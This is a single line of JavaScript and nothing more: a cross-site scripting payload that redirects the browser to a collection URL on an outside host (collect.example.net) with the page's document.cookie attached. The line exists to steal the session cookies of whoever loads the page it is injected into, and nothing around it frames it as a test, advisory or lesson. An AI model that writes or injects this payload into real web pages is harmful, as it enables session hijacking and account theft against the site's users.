location.href = 'https://collect.example.net/?c=' + document.cookie;
